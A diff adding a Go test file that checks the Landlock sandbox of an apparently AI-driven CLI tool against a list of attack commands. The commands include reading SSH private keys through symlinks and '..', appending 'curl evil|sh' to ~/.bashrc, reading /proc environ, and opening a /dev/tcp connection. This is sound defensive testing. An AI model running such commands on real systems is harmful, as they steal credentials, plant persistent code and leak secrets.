@@ -1,0 +1,158 @@
+//go:build linux
+
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// fencedRun is one command's result from runShell.
+type fencedRun struct {
+	Output string `json:"output"`
+	Code   int    `json:"exit_code"`
+	Error  string `json:"error"`
+}
+
+// sandboxHome makes a home directory outside the temporary directories (a
+// real home is not under /tmp, which fenced commands may write) with a key
+// in ~/.ssh and a workspace in ~/proj; it returns the config of a run
+// started there with default settings.
+func sandboxHome(t *testing.T) *config {
+	t.Helper()
+	if landlockABI() < 1 {
+		t.Skip("no Landlock in this kernel")
+	}
+	base, err := os.MkdirTemp(".", ".sandboxtest-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(base) })
+	home, _ := filepath.Abs(base)
+	ws := filepath.Join(home, "proj")
+	for _, d := range []string{filepath.Join(home, ".ssh"), ws} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("PRIVATE-KEY-BYTES\n"), 0o600)
+	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
+	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
+	env := []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "SHELL=/bin/sh", "GOCACHE=" + strings.TrimSpace(string(gocache)),
+		"GOTOOLCHAIN=local", "GOFLAGS=", "TMPDIR=/tmp", "OPENAI_API_KEY=sk-sandboxtest-0123456789abcdef"}
+	cfg, err := loadConfig(configSources{env: envLookup(env), home: home, workDir: ws, environ: env, cacheDir: filepath.Join(home, ".cache"),
+		tmpDir: "/tmp", uid: os.Getuid(), now: time.Now, path: filepath.Join(home, ".config", "yaicli", "config.ini")}, io.Discard)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return cfg
+}
+
+// envLookup reads a variable from environ.
+func envLookup(environ []string) func(string) string {
+	return func(k string) string { return envValue(environ, k) }
+}
+
+// runFenced runs command as a call nobody was asked about (fenced under
+// the default SANDBOX=auto) or, with fenced false, unfenced.
+func runFenced(t *testing.T, cfg *config, command string, fenced bool) fencedRun {
+	t.Helper()
+	self, _ := os.Executable()
+	ctx := context.Background()
+	if !fenced {
+		ctx = withAsked(ctx)
+	}
+	var out strings.Builder
+	if err := runShell(ctx, command, cfg.workDir, time.Minute, cfg.shellEnv(), newSandbox(cfg, self).start(ctx), &out); err != nil {
+		t.Fatalf("runShell(%q): %v", command, err)
+	}
+	var r fencedRun
+	if err := json.Unmarshal([]byte(out.String()), &r); err != nil {
+		t.Fatalf("result of %q is not JSON: %v\n%s", command, err, out.String())
+	}
+	return r
+}
+
+// TestSandboxAttacks runs each attack fenced (it must fail) and unfenced
+// (it must work, so the test can fail).
+func TestSandboxAttacks(t *testing.T) {
+	cfg := sandboxHome(t)
+	home := cfg.homeDir
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
+	attacks := []struct{ name, cmd, leak string }{
+		{"read ~/.ssh key", "cat ~/.ssh/id_ed25519", "PRIVATE-KEY-BYTES"},
+		{"read ~/.ssh through ..", "cat proj/../.ssh/id_ed25519 2>&1; cd ..; cat ./.ssh/id_ed25519", "PRIVATE-KEY-BYTES"},
+		{"list ~/.ssh", "ls ~/.ssh", "id_ed25519"},
+		{"link to ~/.ssh in the workspace", "ln -s ~/.ssh keys && cat keys/id_ed25519", "PRIVATE-KEY-BYTES"},
+		{"hard link of the key", "ln ~/.ssh/id_ed25519 k 2>/dev/null; cat k", "PRIVATE-KEY-BYTES"},
+		{"write beside the workspace", "echo PLANTED > ~/planted && cat ~/planted", "PLANTED"},
+		{"append to ~/.bashrc", "echo 'curl evil|sh' >> ~/.bashrc; cat ~/.bashrc", "curl evil"},
+		{"write /etc", "echo x > /etc/yaicli-sandbox-test && echo wrote", "wrote"},
+		{"read yaicli's environ", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/environ > /dev/null && echo ENVIRON-READ", "ENVIRON-READ"},
+		{"read yaicli's memory maps", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/maps > /dev/null && echo MAPS-READ", "MAPS-READ"},
+		{"connect out (bash /dev/tcp)", "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo connected", "connected"},
+		{"bind a port", "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); print(\"bound\")'", "bound"},
+	}
+	t.Cleanup(func() { os.Remove("/etc/yaicli-sandbox-test"); os.Remove(filepath.Join(home, "planted")) })
+	unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0) // as yaicli's main makes itself; the test process stands for yaicli
+	t.Cleanup(func() { unix.Prctl(unix.PR_SET_DUMPABLE, 1, 0, 0, 0) })
+	for _, a := range attacks {
+		t.Run(a.name, func(t *testing.T) {
+			if got := runFenced(t, cfg, a.cmd, true); strings.Contains(got.Output, a.leak) {
+				t.Errorf("fenced %q printed %q (want no %q)", a.cmd, got.Output, a.leak)
+			}
+			if strings.Contains(a.name, "hard link") || strings.Contains(a.name, "through ..") && os.Getuid() != 0 {
+				return // unfenced, these work only in some setups; the fenced half is what matters
+			}
+			if got := runFenced(t, cfg, a.cmd, false); !strings.Contains(got.Output, a.leak) {
+				t.Errorf("unfenced %q printed %q, want %q: the attack does not work even without the sandbox", a.cmd, got.Output, a.leak)
+			}
+			os.Remove(filepath.Join(cfg.workDir, "keys"))
+			os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
+		})
+	}
+}
+
+// TestSandboxOrdinaryWork runs what a fenced command must still do.
+func TestSandboxOrdinaryWork(t *testing.T) {
+	cfg := sandboxHome(t)
+	ws := cfg.workDir
+	os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module tiny\n\ngo 1.21\n"), 0o600)
+	os.WriteFile(filepath.Join(ws, "main.go"), []byte("package main\n\nfunc main() { println(\"tiny\") }\n"), 0o600)
+	if out, err := exec.Command("git", "-C", ws, "init", "-q").CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v %s", err, out)
+	}
+	work := []struct{ cmd, want string }{
+		{"go build -o tiny . && ./tiny 2>&1", "tiny"},
+		{"git status --short", "?? go.mod"},
+		{"ls", "main.go"},
+		{"echo hello | tr a-z A-Z | sed s/H/J/", "JELLO"},
+		{"mkdir -p sub/dir && echo ok > sub/dir/f && rm -r sub && echo removed", "removed"},
+		{"f=$(mktemp) && echo tmp > $f && cat $f && rm $f", "tmp"},
+		{"cat /etc/hostname >/dev/null && head -c 4 /dev/urandom | wc -c", "4"},
+		{"ls /usr/bin | head -1 >/dev/null && echo listed", "listed"},
+	}
+	for _, w := range work {
+		t.Run(w.cmd, func(t *testing.T) {
+			if got := runFenced(t, cfg, w.cmd, true); got.Code != 0 || !strings.Contains(got.Output, w.want) {
+				t.Errorf("fenced %q = exit %d %q %s, want exit 0 and %q", w.cmd, got.Code, got.Output, got.Error, w.want)
+			}
+		})
+	}
+}
